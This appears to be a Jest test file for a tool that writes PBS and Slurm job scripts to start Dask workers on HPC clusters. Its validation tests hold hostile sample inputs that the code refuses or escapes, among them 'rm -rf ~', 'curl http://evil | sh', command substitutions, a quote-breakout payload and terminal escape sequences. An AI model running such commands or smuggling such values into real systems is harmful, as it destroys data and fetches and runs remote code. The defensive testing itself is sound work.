import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir, type NetworkInterfaceInfo } from 'node:os';
import { InputError } from '../../errors';
import { nodeLauncher, parsePbsNodefile } from '../../batch/node-launcher';
import { chooseInterface } from '../../batch/interfaces';
import { parseWorkerJobs } from '../../requests/job-request';
import { renderJobScript, retireMarginSeconds, shellQuote, type JobContext } from '../../batch/job-script';
import { cleanReason, MAX_REASON_CHARS, parseQstatJson, parseSqueueJson } from '../../batch/job-states';
import { checkPrologue } from '../../batch/prologue';
import { checkedOnTheHost } from '../../batch/private-root-shell';

const fixture = (name: string) => readFileSync(join(__dirname, 'fixtures', name), 'utf8');
const GiB = 2 ** 30;

const context: JobContext = {
  clusterId: '1a2b3c4d',
  jobName: 'dask-1a2b3c4d',
  workerName: 'era5-job-0',
  schedulerAddress: 'tls://10.6.1.17:40123',
  python: '/g/data/ab12/venv/bin/python',
  logFile: '/home/123/ab1234/.local/state/dask-hpc/1a2b3c4d.jobs/era5-job-0.log',
  security: {
    tls_ca_file: '/home/123/ab1234/.local/state/dask-hpc/1a2b3c4d.tls/ca.pem',
    tls_cert: '/home/123/ab1234/.local/state/dask-hpc/1a2b3c4d.tls/cert.pem',
    tls_key: '/home/123/ab1234/.local/state/dask-hpc/1a2b3c4d.tls/key.pem'
  }
};

const gadiJob = {
  system: 'pbs',
  cores: 48,
  memory_gb: 190,
  walltime: '02:00:00',
  queue: 'normal',
  account: 'ab12',
  jobfs_gb: 100,
  storage: 'gdata/ab12+scratch/ab12',
  prologue: ['module load python3/3.11.7', 'source /g/data/ab12/venv/bin/activate'],
  interface: 'ib0'
};

const directives = (script: string, prefix: string) => script.split('\n').filter(line => line.startsWith(prefix));

/** bash itself parses the script: a quoting mistake is a syntax error here. */
function bashAccepts(script: string): void {
  execFileSync('bash', ['-n'], { input: script });
}

describe('contract: Gadi PBS job script (PBS Pro cannot run here)', () => {
  const spec = parseWorkerJobs(gadiJob, { workload: 'cpu' });
  const script = renderJobScript(spec, context);

  test('Gadi directives: -P, -q, one -l per resource, storage, wd, and no select', () => {
    expect(directives(script, '#PBS')).toEqual([
      '#PBS -N dask-1a2b3c4d',
      '#PBS -q normal',
      '#PBS -P ab12',
      '#PBS -l ncpus=48',
      '#PBS -l mem=194560MB',
      '#PBS -l jobfs=102400MB',
      '#PBS -l storage=gdata/ab12+scratch/ab12',
      '#PBS -l walltime=02:00:00',
      '#PBS -j oe',
      `#PBS -o ${context.logFile}`,
      '#PBS -l wd'
    ]);
    expect(script).not.toMatch(/select=|#PBS -A/);
    bashAccepts(script);
  });

  test("the workers: the job plan, spill on the job's own jobfs, ib0, retired before the walltime", () => {
    const worker = script.split('\n').find(line => line.includes('distributed.cli.dask_worker')) as string;
    expect(worker).toContain(`'/g/data/ab12/venv/bin/python' -m distributed.cli.dask_worker 'tls://10.6.1.17:40123'`);
    expect(worker).toContain(`--nworkers ${spec.plan.n_workers} --nthreads 1 --memory-limit ${spec.plan.memory_limit_bytes}`);
    expect(spec.plan.n_workers).toBe(48);
    expect(spec.plan.n_workers * spec.plan.memory_limit_bytes + spec.plan.reserve_bytes).toBeLessThanOrEqual(190 * GiB);
    expect(worker).toContain('"${worker_interface[@]}"');
    expect(worker).toContain('--lifetime 6600s --lifetime-stagger 150s'); // 2 h minus 10 min
    expect(script).toContain('for candidate in "${PBS_JOBFS:-}" "${TMPDIR:-}" /tmp; do');
    expect(script).toContain(`local_root="$local_base/dask-hpc-${process.getuid!()}"`);
    expect(worker).toContain('--dashboard-address 127.0.0.1:0'); // its HTTP on loopback, not every interface
    expect(script).toContain("export DASK_DISTRIBUTED__WORKER__HTTP__ROUTES='[]'");
    expect(script).toContain('local_dir="$local_root/1a2b3c4d-era5-job-0"');
    expect(script).toMatch(/module load python3\/3.11.7\nsource \/g\/data\/ab12\/venv\/bin\/activate/);
    expect(script).toContain("export DASK_DISTRIBUTED__WORKER__MEMORY__SPILL='0.85'");
    expect(script).toContain("export OMP_NUM_THREADS='1'");
  });
});

describe('worker jobs made inside a job take its project, queue and storage where not given', () => {
  const here = {
    batch_system: 'pbs' as const,
    job: {
      id: '12.gadi-pbs',
      project: 'a00',
      queue: 'normal',
      storage: 'scratch/a00',
      walltime_seconds: 3600,
      ends_at: null,
      jobfs_request_bytes: null
    }
  };
  test("left out: the job's, and the script says where each came from", () => {
    const spec = parseWorkerJobs({ system: 'pbs', cores: 2, memory_gb: 4 }, {}, here);
    expect(spec).toMatchObject({ account: 'a00', queue: 'normal', storage: 'scratch/a00' });
    const script = renderJobScript(spec, context);
    expect(directives(script, '#PBS')).toEqual(expect.arrayContaining(['#PBS -P a00', '#PBS -q normal', '#PBS -l storage=scratch/a00']));
    expect(script).toContain(
      '# project a00 (from this job, 12.gadi-pbs)\n# queue normal (from this job, 12.gadi-pbs)\n# storage scratch/a00 (from this job, 12.gadi-pbs)\n'
    );
    bashAccepts(script);
  });
  test('a value given wins, and has no comment', () => {
    const spec = parseWorkerJobs({ system: 'pbs', cores: 2, memory_gb: 4, account: 'b11', storage: 'gdata/b11' }, {}, here);
    expect(spec).toMatchObject({ account: 'b11', queue: 'normal', storage: 'gdata/b11' });
    expect(renderJobScript(spec, context)).not.toMatch(/# (project|storage) .*from this job/);
  });
  test('not for another batch system; no storage for PBS Pro; a job value of an odd shape is not taken', () => {
    expect(parseWorkerJobs({ system: 'slurm', cores: 2, memory_gb: 4 }, {}, here)).toMatchObject({ account: null, queue: null });
    expect(parseWorkerJobs({ system: 'pbs', dialect: 'pbspro', cores: 2, memory_gb: 4 }, {}, here)).toMatchObject({
      account: 'a00',
      storage: null
    });
    const odd = { ...here, job: { ...here.job, storage: 'home/a00', queue: 'a queue' } };
    expect(parseWorkerJobs({ system: 'pbs', cores: 2, memory_gb: 4 }, {}, odd)).toMatchObject({
      account: 'a00',
      queue: null,
      storage: null
    });
  });
});

describe("a worker job's walltime inside a job whose end is known: the time it has left", () => {
  const now = Date.parse('2026-12-03T13:18:00Z');
  const endingIn = (minutes: number | null) => ({
    batch_system: 'pbs' as const,
    job: {
      id: '12.gadi-pbs',
      project: null,
      queue: null,
      storage: null,
      walltime_seconds: 7200,
      ends_at: minutes === null ? null : new Date(now + minutes * 60_000).toISOString(),
      jobfs_request_bytes: null
    }
  });
  const job = { system: 'pbs', cores: 2, memory_gb: 4 };

  test('left out: the time left in whole minutes, and the script says where it came from', () => {
    const spec = parseWorkerJobs(job, {}, endingIn(72.9), now);
    expect(spec.walltime).toBe('01:12:00');
    const script = renderJobScript(spec, context);
    expect(directives(script, '#PBS')).toContain('#PBS -l walltime=01:12:00');
    expect(script).toContain('# walltime 01:12:00 (the time this job, 12.gadi-pbs, has left)\n');
    bashAccepts(script);
    // For a Slurm worker job too: any worker job ends with the session's scheduler.
    expect(parseWorkerJobs({ ...job, system: 'slurm' }, {}, endingIn(30), now).walltime).toBe('00:30:00');
  });

  test('a walltime given wins, even one longer than the job has left, and has no comment', () => {
    const spec = parseWorkerJobs({ ...job, walltime: '05:00:00' }, {}, endingIn(30), now);
    expect(spec.walltime).toBe('05:00:00');
    expect(renderJobScript(spec, context)).not.toContain('# walltime');
    expect(parseWorkerJobs({ ...job, walltime: '00:10:00' }, {}, endingIn(2), now).walltime).toBe('00:10:00');
  });

  test('less than 5 minutes left is a clear error naming the field; an unknown or odd end keeps 01:00:00', () => {
    expect(() => parseWorkerJobs(job, {}, endingIn(4.5), now)).toThrow(
      new InputError(
        'worker_jobs.walltime',
        'this job (12.gadi-pbs) ends in 4 min, at 2026-12-03T13:22:30.000Z: a worker job needs at least 00:05:00; give a walltime (worker_jobs.walltime) to submit one anyway'
      )
    );
    expect(parseWorkerJobs(job, {}, endingIn(5), now).walltime).toBe('00:05:00');
    expect(parseWorkerJobs(job, {}, endingIn(null), now).walltime).toBe('01:00:00');
    const odd = { ...endingIn(null), job: { ...endingIn(null).job, ends_at: 'tomorrow' } };
    expect(parseWorkerJobs(job, {}, odd, now).walltime).toBe('01:00:00');
    expect(parseWorkerJobs(job, {}, null, now).walltime).toBe('01:00:00');
  });
});

describe("a worker job's interface: a preference where the node has it", () => {
  // The repository's Python (scripts/setup.sh), with Dask and psutil, as on a compute node.
  const PYTHON = join(__dirname, '..', '..', '..', '..', '.venv', 'bin', 'python');
  /** The flags the script gives `dask worker` for this interface, on this machine. */
  function interfaceFlags(name: string): string {
    const spec = parseWorkerJobs({ system: 'slurm', cores: 1, memory_gb: 2, interface: name }, {});
    const lines = renderJobScript(spec, { ...context, python: PYTHON }).split('\n');
    const start = lines.indexOf('worker_interface=()');
    expect(start).toBeGreaterThan(0);
    const probe = [...lines.slice(start, start + 2), 'printf "%s " "${worker_interface[@]}"'].join('\n');
    return spawnSync('bash', ['-c', probe], { encoding: 'utf8' }).stdout.trim();
  }

  test('a node with that interface gets --interface', () => {
    expect(interfaceFlags('lo')).toBe('--interface lo');
  });

  test("a node without it (the scheduler's bridge is not on the compute nodes) gets none, so the worker still starts", () => {
    expect(interfaceFlags('nosuch0')).toBe('');
  });
});

describe("a worker job's local directory on a node whose /tmp is shared", () => {
  /** The script's lines from the root's check up to the worker. */
  function scriptHead(): string {
    const spec = parseWorkerJobs({ system: 'slurm', cores: 2, memory_gb: 4 }, {});
    const lines = renderJobScript(spec, context).split('\n');
    return lines
      .slice(
        lines.findIndex(line => line.startsWith('dask_hpc_unsafe()')),
        lines.findIndex(line => line.startsWith('trap '))
      )
      .join('\n');
  }

  /** Those lines run by bash with TMPDIR and the variables given: its exit status and stderr. */
  function runUpToTheWorker(tmpdir: string, env: Record<string, string> = {}) {
    return spawnSync('bash', ['-c', scriptHead()], { env: { PATH: process.env.PATH, TMPDIR: tmpdir, ...env }, encoding: 'utf8' });
  }

  /** A project's scratch: `project` at mode 2770 (its group may write, no sticky bit), `tmp` under it ours. */
  function groupWritableTmp(): { project: string; tmp: string } {
    const project = join(mkdtempSync(join(tmpdir(), 'project-')), 'project');
    mkdirSync(join(project, 'tmp'), { recursive: true });
    chmodSync(project, 0o2770);
    return { project: realpathSync(project), tmp: join(project, 'tmp') };
  }

  test('the root and the directory are made 0700', () => {
    const tmp = mkdtempSync(join(tmpdir(), 'shared-tmp-'));
    const result = runUpToTheWorker(tmp);
    expect(result.status).toBe(0);
    const root = join(tmp, `dask-hpc-${process.getuid!()}`);
    expect(statSync(root).mode & 0o777).toBe(0o700);
    expect(statSync(join(root, '1a2b3c4d-era5-job-0')).mode & 0o777).toBe(0o700);
  });

  test('a root others can write to, or a link, is refused before any worker starts', () => {
    for (const prepare of [
      (root: string) => {
        mkdirSync(root);
        chmodSync(root, 0o777);
      },
      (root: string) => symlinkSync(tmpdir(), root)
    ]) {
      const tmp = mkdtempSync(join(tmpdir(), 'shared-tmp-'));
      const root = join(tmp, `dask-hpc-${process.getuid!()}`);
      prepare(root);
      const result = runUpToTheWorker(tmp);
      expect(result.status).toBe(1);
      expect(result.stderr).toContain(`dask-hpc: ${root} is not yours alone`);
      expect(readdirSync(root)).not.toContain('1a2b3c4d-era5-job-0');
    }
  });

  test('SLURM_TMPDIR under a group-writable project directory is passed over for TMPDIR, saying which and why', () => {
    const { project, tmp: unsafe } = groupWritableTmp();
    const tmp = mkdtempSync(join(tmpdir(), 'node-tmp-'));
    const result = runUpToTheWorker(tmp, { SLURM_TMPDIR: unsafe });
    expect(result.status).toBe(0);
    expect(result.stderr).toContain(`dask-hpc: passed over ${unsafe} for temp and spill: ${project} (mode 2770, uid ${process.getuid!()})`);
    expect(readdirSync(unsafe)).toEqual([]); // nothing of the cluster under it
    expect(statSync(join(tmp, `dask-hpc-${process.getuid!()}`, '1a2b3c4d-era5-job-0')).mode & 0o777).toBe(0o700);
  });

  const unshare = spawnSync('unshare', ['--mount', 'true']).status === 0;
  (unshare ? test : test.skip)('with no private place at all (/tmp group-writable too) the job ends before any worker, naming each', () => {
    const { project, tmp: unsafe } = groupWritableTmp();
    // In a mount namespace of this run alone, /tmp is the group-writable project directory.
    const result = spawnSync(
      'unshare',
      ['--mount', 'bash', '-c', 'mount --bind "$1" /tmp && exec bash -c "$2"', 'bash', project, scriptHead()],
      { env: { PATH: process.env.PATH, SLURM_TMPDIR: unsafe, TMPDIR: '/tmp/tmp' }, encoding: 'utf8' }
    );
    expect(result.status).toBe(1);
    expect(result.stderr).toContain('dask-hpc: passed over /tmp/tmp for temp and spill: /tmp (mode 2770');
    expect(result.stderr).toContain('dask-hpc: passed over /tmp for temp and spill: /tmp (mode 2770');
    expect(result.stderr).toMatch(/dask-hpc: no private directory for temp and spill on \S+; set TMPDIR/);
    expect(readdirSync(unsafe)).toEqual([]);
  });
});

describe('runner mode: the cluster root is checked on the worker host before its workers start', () => {
  test('one line (pbsdsh cuts at a newline); a private root: the directories made 0700, then the command runs', () => {
    const base = mkdtempSync(join(tmpdir(), 'runner-'));
    const root = join(base, `dask-hpc-${process.getuid!()}`);
    const directory = join(root, 'abcd1234', 'c-1');
    const argv = checkedOnTheHost(root, directory);
    expect(argv.some(arg => arg.includes('\n'))).toBe(false);
    expect(argv.slice(-2)).toEqual([root, directory]); // the paths are arguments, never part of the script
    const result = spawnSync(argv[0], [...argv.slice(1), 'echo', 'worker started'], { encoding: 'utf8' });
    expect(result.stdout).toBe('worker started\n');
    for (const path of [root, join(root, 'abcd1234'), directory]) expect(statSync(path).mode & 0o777).toBe(0o700);
  });

  test('under a group-writable directory: refused naming it, nothing made, the workers never start', () => {
    const project = join(mkdtempSync(join(tmpdir(), 'runner-')), 'project');
    mkdirSync(project);
    chmodSync(project, 0o2770);
    const root = join(project, `dask-hpc-${process.getuid!()}`);
    const argv = checkedOnTheHost(root, join(root, 'abcd1234', 'c-1'));
    const result = spawnSync(argv[0], [...argv.slice(1), 'echo', 'worker started'], { encoding: 'utf8' });
    expect(result.status).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(`dask-hpc: cannot use ${root} for cluster files on `);
    expect(result.stderr).toContain(
      `${realpathSync(project)} (mode 2770, uid ${process.getuid!()}) is another user's, or writable by its group`
    );
    expect(readdirSync(project)).toEqual([]);
  });
});

describe('contract: standard PBS Pro job script', () => {
  test('select=1 chunk with ncpus and mem, -A account, no Gadi-only directives', () => {
    const spec = parseWorkerJobs({ system: 'pbs', dialect: 'pbspro', cores: 16, memory_gb: 64, account: 'proj1', queue: 'workq' }, {});
    const script = renderJobScript(spec, context);
    expect(directives(script, '#PBS')).toEqual([
      '#PBS -N dask-1a2b3c4d',
      '#PBS -q workq',
      '#PBS -A proj1',
      '#PBS -l select=1:ncpus=16:mem=65536MB',
      '#PBS -l walltime=01:00:00',
      '#PBS -j oe',
      `#PBS -o ${context.logFile}`
    ]);
    bashAccepts(script);
  });

  test('max_queued: 8 unless given, a whole number from 1 to 1000, refused by name otherwise', () => {
    const job = { system: 'pbs', cores: 4, memory_gb: 16 };
    expect(parseWorkerJobs(job, {}).max_queued).toBe(8);
    expect(parseWorkerJobs({ ...job, max_queued: 3 }, {}).max_queued).toBe(3);
    for (const bad of [0, 2.5, 1001, '4']) {
      expect(() => parseWorkerJobs({ ...job, max_queued: bad }, {})).toThrow(
        /worker_jobs\.max_queued must be a whole number above 0 and at most 1000/
      );
    }
  });

  test("Gadi's storage and standard PBS's missing jobfs are refused by name", () => {
    expect(() => parseWorkerJobs({ system: 'pbs', dialect: 'pbspro', cores: 4, memory_gb: 16, storage: 'gdata/ab12' }, {})).toThrow(
      /storage is Gadi's/
    );
    expect(() => parseWorkerJobs({ system: 'pbs', dialect: 'pbspro', cores: 4, memory_gb: 16, jobfs_gb: 10 }, {})).toThrow(
      /no jobfs resource/
    );
  });
});

describe('Slurm job script (run for real in tests/test_slurm.py)', () => {
  test('--cpus-per-task, --mem, --time, --partition, --account, --tmp; spill on SLURM_TMPDIR', () => {
    const spec = parseWorkerJobs(
      { system: 'slurm', cores: 8, memory_gb: 32, walltime: '00:30:00', queue: 'compute', account: 'ab12', jobfs_gb: 50 },
      { workload: 'mixed' }
    );
    const script = renderJobScript(spec, context);
    expect(directives(script, '#SBATCH')).toEqual([
      '#SBATCH --job-name=dask-1a2b3c4d',
      '#SBATCH --nodes=1',
      '#SBATCH --ntasks=1',
      '#SBATCH --cpus-per-task=8',
      '#SBATCH --mem=32768M',
      '#SBATCH --time=00:30:00',
      '#SBATCH --partition=compute',
      '#SBATCH --account=ab12',
      '#SBATCH --tmp=51200M',
      `#SBATCH --output=${context.logFile}`
    ]);
    expect(script).toContain('--nworkers 4 --nthreads 2');
    expect(script).toContain('for candidate in "${SLURM_TMPDIR:-}" "${TMPDIR:-}" /tmp; do');
    expect(script).toContain('--lifetime 1620s'); // 30 min minus 3 min
    bashAccepts(script);
  });
});

describe('nothing a user typed reaches a shell or a directive unchecked', () => {
  test.each([
    ['account', 'ab12; rm -rf ~'],
    ['account', 'ab12\n#PBS -l ncpus=9999'],
    ['queue', 'normal $(id)'],
    ['storage', 'gdata/ab12 && curl x'],
    ['interface', 'ib0`id`'],
    ['walltime', '1:00:00; x'],
    ['cores', 2.5],
    ['memory_gb', -1],
    ['system', 'lsf']
  ])('worker_jobs.%s = %j is an error naming the field', (field, value) => {
    const attempt = () => parseWorkerJobs({ ...gadiJob, [field]: value }, {});
    expect(attempt).toThrow(InputError);
    try {
      attempt();
    } catch (error) {
      expect((error as InputError).field).toBe(`worker_jobs.${field}`);
    }
  });

  test.each([
    'module load netcdf/4.9.2 hdf5/1.12.2',
    'module purge',
    'source /g/data/ab12/venv/bin/activate',
    '. /etc/profile.d/modules.sh',
    'conda activate /g/data/ab12/envs/analysis3',
    'export PATH=/g/data/ab12/bin:$PATH',
    'export HDF5_USE_FILE_LOCKING=FALSE',
    'cd /scratch/ab12/ab1234'
  ])('prologue accepts %j', line => {
    expect(checkPrologue([line])).toEqual([line]);
  });

  test.each([
    'rm -rf ~',
    'module load x; curl http://evil | sh',
    'source $(curl x)',
    'export X=`id`',
    'export X="a b"',
    'echo hi > /etc/passwd',
    'conda activate base && python -c 1'
  ])('prologue refuses %j, naming the line', line => {
    expect(() => checkPrologue(['module purge', line])).toThrow(/prologue line 2/);
  });

  test('single-quoting keeps any value one word in bash', () => {
    const tricky = "/opt/py'; touch /tmp/pwned; echo '";
    const echoed = execFileSync('bash', ['-c', `printf '%s' ${shellQuote(tricky)}`]).toString();
    expect(echoed).toBe(tricky);
  });

  test('the retire margin is 10% of the walltime, between 1 and 10 minutes', () => {
    expect(retireMarginSeconds('00:05:00')).toBe(60);
    expect(retireMarginSeconds('00:50:00')).toBe(300);
    expect(retireMarginSeconds('48:00:00')).toBe(600);
  });
});

describe('contract: batch system output parsers', () => {
  test('qstat -f -F json (PBS Pro 2022, Gadi-shaped): one letter per job to queued/running/finished, and why a queued job waits', () => {
    expect(Object.fromEntries(parseQstatJson(fixture('qstat-gadi.json')))).toEqual({
      '131000001.gadi-pbs': { state: 'queued', reason: 'Not Running: Insufficient amount of resource: ncpus (R: 48 A: 0 T: 2736)' },
      '131000002.gadi-pbs': { state: 'running', reason: null }, // its comment says where it runs: no reason to wait
      '131000003.gadi-pbs': { state: 'queued', reason: 'Job held by ab1234 on Sun Nov 24 09:11:02 2024' },
      '131000004.gadi-pbs': { state: 'finished', reason: null },
      '131000005.gadi-pbs': { state: 'running', reason: null }
    });
  });

  test('qstat from a server it cannot reach has no Jobs: nothing is known, nothing is finished', () => {
    expect(parseQstatJson(fixture('qstat-unreachable.json')).size).toBe(0);
    expect(() => parseQstatJson('qstat: cannot connect to server')).toThrow(/not JSON/);
  });

  test('squeue --json recorded from the real Slurm 22.05 here (job_state a string, state_reason "None" while running)', () => {
    const states = parseSqueueJson(fixture('squeue-22.05-recorded.json'));
    expect([...states.values()].map(s => s.state).sort()).toEqual(['finished', 'queued', 'running', 'running', 'running', 'running']);
    expect(states.get('24')).toEqual({ state: 'queued', reason: 'Resources' });
    expect(states.get('20')).toEqual({ state: 'running', reason: null });
    expect(states.get('19')).toEqual({ state: 'finished', reason: null }); // cancelled while its reason was Priority
  });

  test('squeue --json of Slurm 23.11 (job_state a list of flags)', () => {
    expect(Object.fromEntries(parseSqueueJson(fixture('squeue-23.json')))).toEqual({
      '41': { state: 'queued', reason: 'Resources' },
      '42': { state: 'running', reason: null },
      '43': { state: 'running', reason: null },
      '44': { state: 'finished', reason: null }
    });
  });

  test("the batch system's reason is untrusted text: control characters go, long text is cut, non-text is none", () => {
    const hostile = 'Not Running:\u001b]0;owned\u0007 held\r\nby root\u202e here\u0000';
    expect(cleanReason(hostile, 'queued')).toBe('Not Running: ]0;owned held by root here');
    const long = cleanReason(`Not Running: ${'x'.repeat(500)}`, 'queued') as string;
    expect([...long]).toHaveLength(MAX_REASON_CHARS);
    expect(long.endsWith('…')).toBe(true);
    expect(cleanReason(`${'é'.repeat(199)}😀😀`, 'queued')).toBe(`${'é'.repeat(199)}…`);
    for (const raw of [undefined, null, 42, { a: 1 }, '', ' \n ', 'None']) expect(cleanReason(raw, 'queued')).toBeNull();
    expect(cleanReason('Resources', 'running')).toBeNull();
    const squeue = JSON.stringify({ jobs: [{ job_id: 7, job_state: 'PENDING', state_reason: 'JobHeldUser\u001b[2J' }] });
    expect(parseSqueueJson(squeue).get('7')).toEqual({ state: 'queued', reason: 'JobHeldUser [2J' });
  });
});

describe('the scheduler interface for workers on other nodes', () => {
  const iface = (address: string): NetworkInterfaceInfo[] => [
    { address, family: 'IPv4', internal: address.startsWith('127.'), netmask: '255.0.0.0', mac: '00:00:00:00:00:00', cidr: null }
  ];
  const gadiNode = { lo: iface('127.0.0.1'), eth0: iface('10.9.0.3'), ib0: iface('10.6.1.17') };

  test('ib0 where present, else the first that is not loopback', () => {
    expect(chooseInterface(null, gadiNode)).toEqual({ name: 'ib0', address: '10.6.1.17' });
    expect(chooseInterface(null, { lo: iface('127.0.0.1'), eth0: iface('10.9.0.3') })).toEqual({ name: 'eth0', address: '10.9.0.3' });
    expect(chooseInterface('eth0', gadiNode).address).toBe('10.9.0.3');
  });

  test('an interface the node lacks is an error listing those it has', () => {
    expect(() => chooseInterface('ib1', gadiNode)).toThrow(/no interface "ib1".*lo, eth0, ib0|no interface "ib1".*eth0, ib0, lo/);
  });
});

describe('runner mode: the nodes of the current allocation (PBS contract tests)', () => {
  test('contract: PBS_NODEFILE with a line per core gives each host once, with the index pbsdsh -n needs', () => {
    const text = 'gadi-cpu-clx-0101.gadi.nci.org.au\n'.repeat(3) + 'gadi-cpu-clx-0102.gadi.nci.org.au\n'.repeat(3);
    expect(parsePbsNodefile(text, '/var/spool/pbs/aux/1234.gadi-pbs')).toEqual([
      { host: 'gadi-cpu-clx-0101.gadi.nci.org.au', index: 0 },
      { host: 'gadi-cpu-clx-0102.gadi.nci.org.au', index: 3 }
    ]);
  });

  test('contract: an empty PBS_NODEFILE is refused with its name', () => {
    expect(() => parsePbsNodefile('\n', '/var/spool/pbs/aux/1234.gadi-pbs')).toThrow(
      /PBS_NODEFILE=\/var\/spool\/pbs\/aux\/1234.gadi-pbs lists no nodes/
    );
  });

  test('contract: pbsdsh gets an argument list, the environment through env(1), no shell', () => {
    const argv = nodeLauncher('pbs', { host: 'n2', index: 48 }, 48, { TMPDIR: '/jobfs/x y', OMP_NUM_THREADS: '1' });
    expect(argv).toEqual(['pbsdsh', '-n', '48', '--', '/usr/bin/env', 'TMPDIR=/jobfs/x y', 'OMP_NUM_THREADS=1']);
  });

  test('srun pins one task with the plan cores to the chosen node, sharing the job step resources', () => {
    const argv = nodeLauncher('slurm', { host: 'c07', index: 1 }, 8, {});
    expect(argv).toEqual(expect.arrayContaining(['srun', '--nodes=1', '--ntasks=1', '--nodelist=c07', '--cpus-per-task=8', '--overlap']));
  });
});
